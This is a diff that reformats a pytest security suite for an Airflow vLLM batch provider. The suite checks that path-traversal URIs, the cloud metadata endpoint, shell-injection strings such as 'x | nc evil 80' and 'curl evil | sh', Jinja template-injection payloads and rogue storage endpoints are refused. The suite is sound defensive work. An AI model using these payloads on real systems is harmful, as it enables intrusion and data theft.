@@ -40,26 +40,89 @@ from tests.support import ROOT  # noqa: E402
 A = "@ALLOWED@"  # replaced by the test's allowed local folder
 
 MALICIOUS_URIS = {
-    "dotdot": [f"{A}/in/../../etc", f"{A}/in/..", "s3://data/in/../secret", "s3://data/in/./x",
-               f"file://{A}/in/../../root", "s3://data/in/sub/../../other"],
-    "encoded_dotdot": ["s3://data/in/%2e%2e/secret", "s3://data/in/%2E%2E%2Fsecret", "s3://data/in/%252e%252e/x",
-                       f"{A}/in/%2e%2e/x", "s3://data/in%2f..%2fother", "s3://data/in/..%5c..%5cx"],
-    "other_bucket": ["s3://data-other/in", "s3://dat/in", "gs://data/in", "s3://evil/in", "s3a://data/in-x/y",
-                     "s3://DATA/in"],
-    "file_trick": ["file:///etc/passwd", "file://attacker.example/share/in", "file:/etc/passwd", "/etc/passwd",
-                   f"file:{A}/in", "file://localhost/etc", f"{A}-sibling/in", "/"],
-    "unknown_scheme": ["http://169.254.169.254/latest/meta-data", "ftp://x/in", "hdfs://nn/in",
-                       "zip::s3://data/in/a.zip", "simplecache::s3://data/in", "sftp://host/in", "relative/in",
-                       "~/in", "C:\\data\\in", "data:text/plain,x", "in\x00/x", " /tmp/x"],
+    "dotdot": [
+        f"{A}/in/../../etc",
+        f"{A}/in/..",
+        "s3://data/in/../secret",
+        "s3://data/in/./x",
+        f"file://{A}/in/../../root",
+        "s3://data/in/sub/../../other",
+    ],
+    "encoded_dotdot": [
+        "s3://data/in/%2e%2e/secret",
+        "s3://data/in/%2E%2E%2Fsecret",
+        "s3://data/in/%252e%252e/x",
+        f"{A}/in/%2e%2e/x",
+        "s3://data/in%2f..%2fother",
+        "s3://data/in/..%5c..%5cx",
+    ],
+    "other_bucket": [
+        "s3://data-other/in",
+        "s3://dat/in",
+        "gs://data/in",
+        "s3://evil/in",
+        "s3a://data/in-x/y",
+        "s3://DATA/in",
+    ],
+    "file_trick": [
+        "file:///etc/passwd",
+        "file://attacker.example/share/in",
+        "file:/etc/passwd",
+        "/etc/passwd",
+        f"file:{A}/in",
+        "file://localhost/etc",
+        f"{A}-sibling/in",
+        "/",
+    ],
+    "unknown_scheme": [
+        "http://169.254.169.254/latest/meta-data",
+        "ftp://x/in",
+        "hdfs://nn/in",
+        "zip::s3://data/in/a.zip",
+        "simplecache::s3://data/in",
+        "sftp://host/in",
+        "relative/in",
+        "~/in",
+        "C:\\data\\in",
+        "data:text/plain,x",
+        "in\x00/x",
+        " /tmp/x",
+    ],
 }
-SHELL = ["x; rm -rf /", "$(id)", "`id`", "x | nc evil 80", "x && curl evil", "x > /etc/passwd", "${HOME}",
-         "x\nid", "'; DROP TABLE t; --"]
-JINJA = ["{{ 7*7 }}", "{% import os %}", "{# c #}", "{{ ''.__class__.__mro__[1].__subclasses__() }}",
-         "x {{config}}", "{%raw%}x{%endraw%}"]
-IDENTIFIER_FIELDS = ["name", "model.name", "model.revision", "model.tokenizer", "model.quantization",
-                     "prompt.id_column", "prompt.text_columns", "sampling.structured.choice",
-                     "engine.engine_kwargs.tokenizer_mode", "io.storage_options.endpoint_url",
-                     "qa.previous_report_uri", "io.input_uri", "io.output_uri"]
+SHELL = [
+    "x; rm -rf /",
+    "$(id)",
+    "`id`",
+    "x | nc evil 80",
+    "x && curl evil",
+    "x > /etc/passwd",
+    "${HOME}",
+    "x\nid",
+    "'; DROP TABLE t; --",
+]
+JINJA = [
+    "{{ 7*7 }}",
+    "{% import os %}",
+    "{# c #}",
+    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+    "x {{config}}",
+    "{%raw%}x{%endraw%}",
+]
+IDENTIFIER_FIELDS = [
+    "name",
+    "model.name",
+    "model.revision",
+    "model.tokenizer",
+    "model.quantization",
+    "prompt.id_column",
+    "prompt.text_columns",
+    "sampling.structured.choice",
+    "engine.engine_kwargs.tokenizer_mode",
+    "io.storage_options.endpoint_url",
+    "qa.previous_report_uri",
+    "io.input_uri",
+    "io.output_uri",
+]
 FREE_TEXT_FIELDS = ["prompt.system_prompt", "prompt.template", "sampling.stop", "sampling.structured.regex"]
 
 
@@ -72,11 +135,14 @@ def allowed(tmp_path):
 
 
 def base_doc(allowed: Path) -> dict:
-    return {"name": "sec", "model": {"name": "fake", "max_model_len": 256},
-            "io": {"input_uri": str(allowed / "in"), "output_uri": str(allowed / "out")},
-            "prompt": {"template": "Ticket: {text}", "system_prompt": "Classify."},
-            "sampling": {"max_tokens": 4, "structured": {"choice": ["a", "b"]}},
-            "sharding": {"target_rows": 10, "chunk_rows": 2}}
+    return {
+        "name": "sec",
+        "model": {"name": "fake", "max_model_len": 256},
+        "io": {"input_uri": str(allowed / "in"), "output_uri": str(allowed / "out")},
+        "prompt": {"template": "Ticket: {text}", "system_prompt": "Classify."},
+        "sampling": {"max_tokens": 4, "structured": {"choice": ["a", "b"]}},
+        "sharding": {"target_rows": 10, "chunk_rows": 2},
+    }
 
 
 def prefixes(allowed: Path) -> list[str]:
@@ -130,8 +196,11 @@ def test_malicious_uris_are_refused(allowed, kind):
 
 def test_allowed_uris_pass_and_prefixes_match_whole_segments(allowed):
     assert refused(base_doc(allowed), prefixes(allowed)) is None
-    ok = with_value(with_value(base_doc(allowed), "io.input_uri", "s3://data/in/dt=2026-11-29/"),
-                    "io.output_uri", "s3://data/out/run-1")
+    ok = with_value(
+        with_value(base_doc(allowed), "io.input_uri", "s3://data/in/dt=2026-11-29/"),
+        "io.output_uri",
+        "s3://data/out/run-1",
+    )
     assert refused(ok, prefixes(allowed)) is None
     assert check_uri("file://" + str(allowed / "in"), prefixes(allowed)) == str(allowed / "in")
     with pytest.raises(SpecError, match="outside the allowed prefixes"):
@@ -146,8 +215,9 @@ def test_symlinks_cannot_lead_out_of_the_allowed_prefix(allowed, tmp_path):
     tried = 0
     for field, uri in (("io.input_uri", allowed / "link"), ("io.output_uri", allowed / "link" / "out")):
         tried += 1
-        assert "outside the allowed prefixes" in refused(with_value(base_doc(allowed), field, str(uri)),
-                                                         prefixes(allowed))
+        assert "outside the allowed prefixes" in refused(
+            with_value(base_doc(allowed), field, str(uri)), prefixes(allowed)
+        )
     tried += 1  # a symlinked file inside an allowed input folder
     assert "is a symlink to" in refused(base_doc(allowed), prefixes(allowed))
     record_malicious("uri_symlink_escape", tried, tried)
@@ -213,10 +283,18 @@ def test_oversized_params_are_refused(allowed):
 
 def test_from_params_refuses_the_forms_payloads(allowed):
     """The trigger-form path: flat params over the DAG's base spec."""
-    bad = [{"input_uri": "s3://data/in/%2e%2e/x"}, {"model": "m; curl evil | sh"}, {"labels": ["ok", "{{ 7*7 }}"]},
-           {"system_prompt": "{% for x in range(10**9) %}{% endfor %}"}, {"template": "{text.__class__}"},
-           {"id_column": "id; DROP"}, {"output_uri": "file://evil/x"}, {"labels": [f"l{i}" for i in range(300)]},
-           {"compare_with": "http://169.254.169.254/latest/"}, {"compare_with": "s3://data/out/%2e%2e/x"}]
+    bad = [
+        {"input_uri": "s3://data/in/%2e%2e/x"},
+        {"model": "m; curl evil | sh"},
+        {"labels": ["ok", "{{ 7*7 }}"]},
+        {"system_prompt": "{% for x in range(10**9) %}{% endfor %}"},
+        {"template": "{text.__class__}"},
+        {"id_column": "id; DROP"},
+        {"output_uri": "file://evil/x"},
+        {"labels": [f"l{i}" for i in range(300)]},
+        {"compare_with": "http://169.254.169.254/latest/"},
+        {"compare_with": "s3://data/out/%2e%2e/x"},
+    ]
     n = 0
     for params in bad:
         with pytest.raises(SpecError):
@@ -289,22 +367,31 @@ def test_audit_no_shell_no_eval_no_second_template_render():
         for node in ast.walk(tree):
             if isinstance(node, (ast.Import, ast.ImportFrom)):
                 mods = [a.name for a in node.names] if isinstance(node, ast.Import) else [node.module or ""]
-                if isinstance(node, ast.ImportFrom) and node.module == "jinja2" \
-                        and [a.name for a in node.names] == ["meta"]:
+                if (
+                    isinstance(node, ast.ImportFrom)
+                    and node.module == "jinja2"
+                    and [a.name for a in node.names] == ["meta"]
+                ):
                     continue  # operators/provenance.py: static analysis of templates (parse, never render)
                 if any(m.split(".")[0] in ("jinja2", "commands", "pty") for m in mods):
                     problems.append(f"{path.name}:{node.lineno} imports {mods}")
         for node, owner, name in _calls(tree):
             where = f"{path.relative_to(ROOT)}:{node.lineno}"
-            if any(k.arg == "shell" and not (isinstance(k.value, ast.Constant) and k.value.value is False)
-                   for k in node.keywords):
+            if any(
+                k.arg == "shell" and not (isinstance(k.value, ast.Constant) and k.value.value is False)
+                for k in node.keywords
+            ):
                 problems.append(f"{where} shell=")
             if owner == "os" and (name in ("system", "popen") or name.startswith(("exec", "spawn"))):
                 problems.append(f"{where} os.{name}")
             if owner == "subprocess" and name in ("getoutput", "getstatusoutput"):
                 problems.append(f"{where} subprocess.{name}")
-            if owner == "subprocess" and name in ("run", "Popen", "call", "check_call", "check_output") \
-                    and node.args and isinstance(node.args[0], (ast.Constant, ast.JoinedStr, ast.BinOp)):
+            if (
+                owner == "subprocess"
+                and name in ("run", "Popen", "call", "check_call", "check_output")
+                and node.args
+                and isinstance(node.args[0], (ast.Constant, ast.JoinedStr, ast.BinOp))
+            ):
                 problems.append(f"{where} subprocess.{name} with a string command")
             if isinstance(node.func, ast.Name) and name in ("eval", "exec", "compile", "__import__"):
                 problems.append(f"{where} {name}()")
@@ -334,20 +421,32 @@ def test_worker_refuses_forged_shard_tasks(allowed, tmp_path):
         "shell in a label": ("sampling", "structured", {"choice": ["a", "b; id"]}, "choice"),
         "history outside the allow-list": ("sharding", "history_uri", str(elsewhere / "h"), "sharding.history_uri"),
         "model path outside the allow-list": ("model", "name", str(elsewhere / "model"), "model.name"),
-        "endpoint in storage options": ("io", "storage_options", {"endpoint_url": "http://127.0.0.1:9"},
-                                        "io.storage_options.endpoint_url"),
+        "endpoint in storage options": (
+            "io",
+            "storage_options",
+            {"endpoint_url": "http://127.0.0.1:9"},
+            "io.storage_options.endpoint_url",
+        ),
         "trust_remote_code": ("model", "trust_remote_code", True, "model.trust_remote_code"),
-        "code-loading compilation backend": ("engine", "engine_kwargs",
-                                             {"compilation_config": {"backend": "evil.module.fn"}},
-                                             "compilation_config.backend"),
+        "code-loading compilation backend": (
+            "engine",
+            "engine_kwargs",
+            {"compilation_config": {"backend": "evil.module.fn"}},
+            "compilation_config.backend",
+        ),
     }
     env = {**os.environ, ALLOWED_PREFIXES_ENV: json.dumps(prefixes(allowed)), "PYTHONPATH": str(ROOT)}
     n = 0
     for name, (section, key, value, message) in forged.items():
         task = json.loads(json.dumps(good))
         task["spec"][section][key] = value
-        p = subprocess.run([sys.executable, "-m", "airflow_provider_vllm.worker", json.dumps(task)], env=env,
-                           capture_output=True, text=True, timeout=120)
+        p = subprocess.run(
+            [sys.executable, "-m", "airflow_provider_vllm.worker", json.dumps(task)],
+            env=env,
+            capture_output=True,
+            text=True,
+            timeout=120,
+        )
         assert p.returncode == EXIT_TERMINAL, (name, p.stderr[-2000:])
         manifest = json.loads(p.stdout.strip().splitlines()[-1])
         assert manifest["terminal"] is True and message in manifest["message"], (name, manifest)
@@ -357,8 +456,13 @@ def test_worker_refuses_forged_shard_tasks(allowed, tmp_path):
     # the allow-list cannot be widened through the task: it is not a field of ShardTask
     task = json.loads(json.dumps(good))
     task["allowed_prefixes"] = ["/"]
-    p = subprocess.run([sys.executable, "-m", "airflow_provider_vllm.worker", json.dumps(task)], env=env,
-                       capture_output=True, text=True, timeout=120)
+    p = subprocess.run(
+        [sys.executable, "-m", "airflow_provider_vllm.worker", json.dumps(task)],
+        env=env,
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
     assert p.returncode == EXIT_TERMINAL and "allowed_prefixes" in p.stdout
     record_malicious("forged_shard_task", n + 1, n + 1)
 
@@ -370,16 +474,27 @@ def test_plan_operator_refuses_before_planning(allowed, monkeypatch):
     from airflow_provider_vllm.operators import VllmPlanOperator
 
     monkeypatch.setenv("AIRFLOW__VLLM_BATCH__ALLOWED_URI_PREFIXES", ",".join(prefixes(allowed)))
-    cases = {"input_uri": ["s3://other/in", str(allowed / "in") + "/../../x", "file:///etc"],
-             "output_uri": ["s3://data-other/out", "/tmp/elsewhere", "http://x/y"],
-             "model": ["$(id)", "{{ 7*7 }}"], "labels": [["ok", "x`id`"], [f"l{i}" for i in range(300)]],
-             "system_prompt": ["{# x #} hi"]}
+    cases = {
+        "input_uri": ["s3://other/in", str(allowed / "in") + "/../../x", "file:///etc"],
+        "output_uri": ["s3://data-other/out", "/tmp/elsewhere", "http://x/y"],
+        "model": ["$(id)", "{{ 7*7 }}"],
+        "labels": [["ok", "x`id`"], [f"l{i}" for i in range(300)]],
+        "system_prompt": ["{# x #} hi"],
+    }
     n = tried = 0
     for param, values in cases.items():
         for value in values:
             tried += 1
-            ti = type("TI", (), {"xcoms": {}, "xcom_push": lambda self, key, value: self.xcoms.update({key: value}),
-                                 "map_index": -1, "try_number": 1})()
+            ti = type(
+                "TI",
+                (),
+                {
+                    "xcoms": {},
+                    "xcom_push": lambda self, key, value: self.xcoms.update({key: value}),
+                    "map_index": -1,
+                    "try_number": 1,
+                },
+            )()
             op = VllmPlanOperator(task_id="plan", spec=base_doc(allowed), param_overrides=[param])
             with pytest.raises(AirflowFailException):
                 op.execute({"ti": ti, "params": {param: value}})
@@ -406,8 +521,12 @@ def test_non_empty_foreign_output_prefix_is_refused(allowed):
 def test_worker_log_redacts_secret_environment_values(tmp_path):
     from airflow_provider_vllm.worker.redact import RedactSecrets, secret_values
 
-    env = {"HF_TOKEN": "hf_SENTINEL_abc123", "AWS_SECRET_ACCESS_KEY": "aws-SENTINEL-xyz789", "HOME": "/root",
-           "SHORT_TOKEN": "abc"}
+    env = {
+        "HF_TOKEN": "hf_SENTINEL_abc123",
+        "AWS_SECRET_ACCESS_KEY": "aws-SENTINEL-xyz789",
+        "HOME": "/root",
+        "SHORT_TOKEN": "abc",
+    }
     assert secret_values(env) == sorted(["hf_SENTINEL_abc123", "aws-SENTINEL-xyz789"], key=len, reverse=True)
     records = []
     handler = logging.Handler()
@@ -435,8 +554,13 @@ def test_worker_cli_never_prints_a_secret_from_its_environment(allowed):
     task = {"spec": doc, "shard_id": "shard-00000-0123abcd"}
     task["spec"]["model"]["name"] = f"org/model;{token}"
     env = {**os.environ, "HF_TOKEN": token, "PYTHONPATH": str(ROOT)}
-    p = subprocess.run([sys.executable, "-m", "airflow_provider_vllm.worker", json.dumps(task)], env=env,
-                       capture_output=True, text=True, timeout=120)
+    p = subprocess.run(
+        [sys.executable, "-m", "airflow_provider_vllm.worker", json.dumps(task)],
+        env=env,
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
     assert p.returncode == EXIT_TERMINAL
     assert "model.name" in p.stdout + p.stderr and "***" in p.stderr
     assert token not in p.stdout + p.stderr
@@ -457,8 +581,9 @@ def test_shard_operator_refuses_a_forged_spec_before_starting_a_worker(allowed, 
     python.write_text(f"#!/bin/sh\ntouch {launched}\n")
     python.chmod(0o755)
     ti = type("TI", (), {"map_index": 0, "try_number": 1})()
-    op = VllmLocalShardOperator(task_id="shard", spec=forged, shard={"shard_id": "shard-00000-0123abcd", "rows": 3},
-                                python=str(python))
+    op = VllmLocalShardOperator(
+        task_id="shard", spec=forged, shard={"shard_id": "shard-00000-0123abcd", "rows": 3}, python=str(python)
+    )
     with pytest.raises(AirflowFailException, match="outside the allowed prefixes"):
         op.execute({"ti": ti})
     assert not launched.exists() and not (tmp_path / "elsewhere").exists()
@@ -477,9 +602,13 @@ def test_shard_operator_hands_the_deployment_allow_list_to_the_worker(allowed, t
     python.write_text(f"#!{sys.executable}\nimport json, os\njson.dump(dict(os.environ), open({str(dump)!r}, 'w'))\n")
     python.chmod(0o755)
     ti = type("TI", (), {"map_index": 0, "try_number": 1})()
-    op = VllmLocalShardOperator(task_id="shard", spec=base_doc(allowed), python=str(python),
-                                shard={"shard_id": "shard-00000-0123abcd", "rows": 3},
-                                env={ALLOWED_PREFIXES_ENV: '["/"]'})
+    op = VllmLocalShardOperator(
+        task_id="shard",
+        spec=base_doc(allowed),
+        python=str(python),
+        shard={"shard_id": "shard-00000-0123abcd", "rows": 3},
+        env={ALLOWED_PREFIXES_ENV: '["/"]'},
+    )
     with pytest.raises(AirflowException):  # the stand-in prints no manifest
         op.execute({"ti": ti})
     seen = json.loads(dump.read_text())
@@ -502,8 +631,16 @@ def test_allow_list_is_deployment_config_only(monkeypatch, tmp_path, fail_closed
 
 # ---- fail closed: the deployment's allow-list (issue 12) ------------------------------
 def _ti():
-    return type("TI", (), {"xcoms": {}, "xcom_push": lambda self, key, value: self.xcoms.update({key: value}),
-                           "map_index": 0, "try_number": 1})()
+    return type(
+        "TI",
+        (),
+        {
+            "xcoms": {},
+            "xcom_push": lambda self, key, value: self.xcoms.update({key: value}),
+            "map_index": 0,
+            "try_number": 1,
+        },
+    )()
 
 
 def test_no_allow_list_refuses_every_task_naming_the_setting(allowed, tmp_path, monkeypatch, fail_closed):
@@ -524,10 +661,13 @@ def test_no_allow_list_refuses_every_task_naming_the_setting(allowed, tmp_path, 
     python.chmod(0o755)
     doc = base_doc(allowed)
     shard = {"shard_id": "shard-00000-0123abcd", "rows": 3}
-    ops = [VllmPlanOperator(task_id="plan", spec=doc),
-           VllmLocalShardOperator(task_id="shard", spec=doc, shard=shard, python=str(python)),
-           VllmMergeOperator(task_id="merge", spec=doc), VllmQAOperator(task_id="qa", spec=doc),
-           VllmPublishOperator(task_id="publish", spec=doc)]
+    ops = [
+        VllmPlanOperator(task_id="plan", spec=doc),
+        VllmLocalShardOperator(task_id="shard", spec=doc, shard=shard, python=str(python)),
+        VllmMergeOperator(task_id="merge", spec=doc),
+        VllmQAOperator(task_id="qa", spec=doc),
+        VllmPublishOperator(task_id="publish", spec=doc),
+    ]
     for op in ops:
         ti = _ti()
         with pytest.raises(AirflowFailException) as e:
@@ -559,8 +699,13 @@ def test_worker_without_an_allow_list_from_airflow_refuses(allowed, tmp_path):
     env = {k: v for k, v in os.environ.items() if not k.startswith("VLLM_BATCH_ALLOW")}
     env["PYTHONPATH"] = str(ROOT)
     for extra in ({}, {"VLLM_BATCH_ALLOWED_PREFIXES": "[]"}, {"VLLM_BATCH_ALLOW_ANY_LOCATION": "0"}):
-        p = subprocess.run([sys.executable, "-m", "airflow_provider_vllm.worker", task], env={**env, **extra},
-                           capture_output=True, text=True, timeout=120)
+        p = subprocess.run(
+            [sys.executable, "-m", "airflow_provider_vllm.worker", task],
+            env={**env, **extra},
+            capture_output=True,
+            text=True,
+            timeout=120,
+        )
         assert p.returncode == EXIT_TERMINAL, p.stderr[-2000:]
         manifest = json.loads(p.stdout.strip().splitlines()[-1])
         assert "VLLM_BATCH_ALLOWED_PREFIXES" in manifest["message"] and manifest["terminal"] is True
@@ -569,12 +714,25 @@ def test_worker_without_an_allow_list_from_airflow_refuses(allowed, tmp_path):
 
 
 HOSTILE_LOCATIONS = [
-    "s3://evil/x", "s3://data-other/in", "http://169.254.169.254/latest/meta-data", "https://evil.example/x",
-    "s3://user:pass@data/in", "s3://data/in/../../other", f"{A}/in/../../etc", "/etc", "file:///root/.aws",
-    "ftp://evil/x", f"{A}-sibling/in",
+    "s3://evil/x",
+    "s3://data-other/in",
+    "http://169.254.169.254/latest/meta-data",
+    "https://evil.example/x",
+    "s3://user:pass@data/in",
+    "s3://data/in/../../other",
+    f"{A}/in/../../etc",
+    "/etc",
+    "file:///root/.aws",
+    "ftp://evil/x",
+    f"{A}-sibling/in",
 ]
-LOCATION_FIELDS = {"sharding.history_uri": "", "qa.previous_report_uri": "/qa/report.json",
-                   "model.name": "", "model.tokenizer": "", "changes.previous_uri": "/"}
+LOCATION_FIELDS = {
+    "sharding.history_uri": "",
+    "qa.previous_report_uri": "/qa/report.json",
+    "model.name": "",
+    "model.tokenizer": "",
+    "changes.previous_uri": "/",
+}
 RELATIVE_MODEL_PATHS = [".cache/models/x", "./models/x", "~/models/x", "a/b/c", "../models/x"]
 
 
@@ -594,22 +752,38 @@ def test_every_location_field_is_held_to_the_allow_list(allowed, field):
     record_malicious(f"location_{field}", tried, rejected)
     assert rejected == tried
     # inside the allow-list they pass (a hub id is no location)
-    ok = {"sharding.history_uri": str(allowed / "history"), "qa.previous_report_uri": str(allowed / "r.json"),
-          "model.name": str(allowed / "model"), "model.tokenizer": "org/name",
-          "changes.previous_uri": str(allowed / "out" / "dt=2026-11-29") + "/"}[field]
+    ok = {
+        "sharding.history_uri": str(allowed / "history"),
+        "qa.previous_report_uri": str(allowed / "r.json"),
+        "model.name": str(allowed / "model"),
+        "model.tokenizer": "org/name",
+        "changes.previous_uri": str(allowed / "out" / "dt=2026-11-29") + "/",
+    }[field]
     assert refused(with_value(base_doc(allowed), field, ok), prefixes(allowed)) is None
 
 
 HOSTILE_STORAGE_OPTIONS = [
-    {"endpoint_url": "http://127.0.0.1:9000"}, {"client_kwargs": {"endpoint_url": "http://169.254.169.254"}},
-    {"client_kwargs": {"region_name": "us-east-1", "endpoint_url": "http://evil"}}, {"endpoint": "evil:80"},
-    {"host": "evil.example"}, {"port": 8080}, {"proxy": "http://proxy.evil:3128"},
+    {"endpoint_url": "http://127.0.0.1:9000"},
+    {"client_kwargs": {"endpoint_url": "http://169.254.169.254"}},
+    {"client_kwargs": {"region_name": "us-east-1", "endpoint_url": "http://evil"}},
+    {"endpoint": "evil:80"},
+    {"host": "evil.example"},
+    {"port": 8080},
+    {"proxy": "http://proxy.evil:3128"},
     {"config_kwargs": {"proxies": {"https": "http://proxy.evil"}}},
-    {"client_kwargs": {"headers": {"Metadata-Flavor": "Google"}}}, {"headers": {"X-aws-ec2-metadata-token": "x"}},
-    {"anon": "http://user:pass@evil/"}, {"client_kwargs": {"region_name": "user:pass@evil"}},
-    {"profile": "admin"}, {"use_ssl": False}, {"config_kwargs": {"signature_version": "UNSIGNED"}},
-    {"s3_additional_kwargs": {"SSECustomerKey": "k"}}, {"client_kwargs": {"aws_session_token": "t"}},
-    {"key": "AKIA"}, {"token": "ya29.x"}, {"session": "x"}, {"config_kwargs": {"retries": {"mode": "x", "url": "y"}}},
+    {"client_kwargs": {"headers": {"Metadata-Flavor": "Google"}}},
+    {"headers": {"X-aws-ec2-metadata-token": "x"}},
+    {"anon": "http://user:pass@evil/"},
+    {"client_kwargs": {"region_name": "user:pass@evil"}},
+    {"profile": "admin"},
+    {"use_ssl": False},
+    {"config_kwargs": {"signature_version": "UNSIGNED"}},
+    {"s3_additional_kwargs": {"SSECustomerKey": "k"}},
+    {"client_kwargs": {"aws_session_token": "t"}},
+    {"key": "AKIA"},
+    {"token": "ya29.x"},
+    {"session": "x"},
+    {"config_kwargs": {"retries": {"mode": "x", "url": "y"}}},
 ]
 
 
@@ -626,8 +800,12 @@ def test_storage_endpoints_and_credentials_come_from_the_deployment_only(allowed
     assert rejected == tried
     msg = refused(with_value(base_doc(allowed), "io.storage_options", {"endpoint_url": "http://x"}), prefixes(allowed))
     assert "AWS_ENDPOINT_URL" in msg and "connection" in msg
-    fine = {"anon": True, "requester_pays": True, "client_kwargs": {"region_name": "eu-west-1"},
-            "config_kwargs": {"retries": {"max_attempts": 3}, "read_timeout": 30}}
+    fine = {
+        "anon": True,
+        "requester_pays": True,
+        "client_kwargs": {"region_name": "eu-west-1"},
+        "config_kwargs": {"retries": {"max_attempts": 3}, "read_timeout": 30},
+    }
     assert refused(with_value(base_doc(allowed), "io.storage_options", fine), prefixes(allowed)) is None
 
 
@@ -671,8 +849,11 @@ def test_a_spec_endpoint_never_reaches_a_server(allowed, tmp_path, monkeypatch):
     monkeypatch.setenv("AIRFLOW__VLLM_BATCH__ALLOWED_URI_PREFIXES", json.dumps(prefixes(allowed)))
     with _Recorder() as server:
         doc = base_doc(allowed)
-        doc["io"] = {"input_uri": "s3://data/in/", "output_uri": "s3://data/out/run",
-                     "storage_options": {"client_kwargs": {"endpoint_url": server.url}}}
+        doc["io"] = {
+            "input_uri": "s3://data/in/",
+            "output_uri": "s3://data/out/run",
+            "storage_options": {"client_kwargs": {"endpoint_url": server.url}},
+        }
         ti = _ti()
         with pytest.raises(AirflowFailException, match="io.storage_options.client_kwargs.endpoint_url"):
             VllmPlanOperator(task_id="plan", spec=doc).execute({"ti": ti, "params": {}})
@@ -680,8 +861,13 @@ def test_a_spec_endpoint_never_reaches_a_server(allowed, tmp_path, monkeypatch):
         doc["io"]["storage_options"] = {"endpoint_url": server.url}
         task = {"spec": doc, "shard_id": "shard-00000-0123abcd"}
         env = {**os.environ, ALLOWED_PREFIXES_ENV: json.dumps(prefixes(allowed)), "PYTHONPATH": str(ROOT)}
-        p = subprocess.run([sys.executable, "-m", "airflow_provider_vllm.worker", json.dumps(task)], env=env,
-                           capture_output=True, text=True, timeout=120)
+        p = subprocess.run(
+            [sys.executable, "-m", "airflow_provider_vllm.worker", json.dumps(task)],
+            env=env,
+            capture_output=True,
+            text=True,
+            timeout=120,
+        )
         assert p.returncode == EXIT_TERMINAL and "io.storage_options.endpoint_url" in p.stdout, p.stdout
         assert server.seen == []
     record_malicious("spec_endpoint_to_loopback_server", 2, 2)
@@ -737,14 +923,20 @@ def test_deployment_owned_settings_from_a_trigger_or_a_variable_are_refused(allo
     tried = rejected = 0
     for path, value in OWNED_VALUES.items():
         tried += 1
-        template = {"param template": "{{ params.x }}", "dag_run conf": "{{ dag_run.conf['x'] }}",
-                    "xcom": "{{ ti.xcom_pull('t') }}"}.get(via)
+        template = {
+            "param template": "{{ params.x }}",
+            "dag_run conf": "{{ dag_run.conf['x'] }}",
+            "xcom": "{{ ti.xcom_pull('t') }}",
+        }.get(via)
         if template is not None:
             raw = _set(base_doc(allowed), path, template)
             op = _plan(raw, _set(base_doc(allowed), path, value))
         else:
-            op = _plan(base_doc(allowed), raw_overrides="{{ var.value.get('vllm_batch_spec_overrides', '{}') }}",
-                       rendered_overrides=json.dumps({path: value}))
+            op = _plan(
+                base_doc(allowed),
+                raw_overrides="{{ var.value.get('vllm_batch_spec_overrides', '{}') }}",
+                rendered_overrides=json.dumps({path: value}),
+            )
         ti = _ti()
         with pytest.raises(AirflowFailException) as e:
             op.execute({"ti": ti, "params": {"x": "y"}})
@@ -765,12 +957,16 @@ def test_deployment_owned_settings_from_the_dag_file_or_an_opted_in_variable_pas
     from airflow.sdk.exceptions import AirflowFailException
 
     monkeypatch.setenv("AIRFLOW__VLLM_BATCH__ALLOWED_URI_PREFIXES", json.dumps(prefixes(allowed)))
-    literal = _set(_set(base_doc(allowed), "kubernetes.image", "registry.example.com/w:1"),
-                   "kubernetes.service_account", "vllm-batch")
+    literal = _set(
+        _set(base_doc(allowed), "kubernetes.image", "registry.example.com/w:1"),
+        "kubernetes.service_account",
+        "vllm-batch",
+    )
     assert _plan(literal).execute({"ti": _ti(), "params": {}})  # a DAG-file literal
     dated = _set(base_doc(allowed), "kubernetes.labels", {"day": "{{ ds_nodash }}"})
     assert _plan(dated, _set(base_doc(allowed), "kubernetes.labels", {"day": "20261130"})).execute(
-        {"ti": _ti(), "params": {}})  # a template over the logical date only
+        {"ti": _ti(), "params": {}}
+    )  # a template over the logical date only
     # trust_remote_code as a DAG-file literal: still needs the deployment's allow_remote_code
     trc = _set(base_doc(allowed), "model.trust_remote_code", True)
     with pytest.raises(AirflowFailException, match=r"\[vllm_batch\] allow_remote_code"):
@@ -786,22 +982,33 @@ def test_deployment_owned_settings_from_the_dag_file_or_an_opted_in_variable_pas
     op = _plan(base_doc(allowed), raw_overrides=var, rendered_overrides='{"kubernetes.image": "r.example.com/w:2"}')
     assert op.execute({"ti": _ti(), "params": {}})
     # ... but a trigger never may, opt-in or not
-    op = _plan(_set(base_doc(allowed), "kubernetes.image", "{{ params.image }}"),
-               _set(base_doc(allowed), "kubernetes.image", "evil/x"))
+    op = _plan(
+        _set(base_doc(allowed), "kubernetes.image", "{{ params.image }}"),
+        _set(base_doc(allowed), "kubernetes.image", "evil/x"),
+    )
     with pytest.raises(AirflowFailException, match="trigger params"):
         op.execute({"ti": _ti(), "params": {"image": "evil/x"}})
     # the other settings stay free for Variables (engine sizes, sampling, ...)
     monkeypatch.delenv("AIRFLOW__VLLM_BATCH__DEPLOYMENT_SETTINGS_FROM_VARIABLES")
-    op = _plan(base_doc(allowed), raw_overrides=var,
-               rendered_overrides='{"engine.max_num_seqs": 256, "engine.engine_kwargs": {"block_size": 32}}')
+    op = _plan(
+        base_doc(allowed),
+        raw_overrides=var,
+        rendered_overrides='{"engine.max_num_seqs": 256, "engine.engine_kwargs": {"block_size": 32}}',
+    )
     assert op.execute({"ti": _ti(), "params": {}})
 
 
 def test_param_overrides_cannot_name_deployment_owned_settings():
     from airflow_provider_vllm.operators import VllmPlanOperator
 
-    names = ["model.trust_remote_code", "kubernetes", "kubernetes.image", "kubernetes.env.X",
-             "kubernetes.service_account", "kubernetes.secret_env"]
+    names = [
+        "model.trust_remote_code",
+        "kubernetes",
+        "kubernetes.image",
+        "kubernetes.env.X",
+        "kubernetes.service_account",
+        "kubernetes.secret_env",
+    ]
     n = 0
     for name in names:
         with pytest.raises(ValueError, match="deployment-owned"):
@@ -825,8 +1032,9 @@ def test_an_included_spec_file_is_the_dag_files_unless_it_reads_params(allowed, 
     with DAG("d", template_searchpath=[str(tmp_path)], schedule=None) as dag:
         pass
     assert _plan("{% include 'job.yaml' %}", yaml.safe_dump(doc), dag=dag).execute({"ti": _ti(), "params": {}})
-    op = _plan("{% include 'hostile.yaml' %}", yaml.safe_dump(_set(doc, "kubernetes.service_account", "admin")),
-               dag=dag)
+    op = _plan(
+        "{% include 'hostile.yaml' %}", yaml.safe_dump(_set(doc, "kubernetes.service_account", "admin")), dag=dag
+    )
     with pytest.raises(AirflowFailException, match=r"kubernetes.image is deployment-owned and came from trigger"):
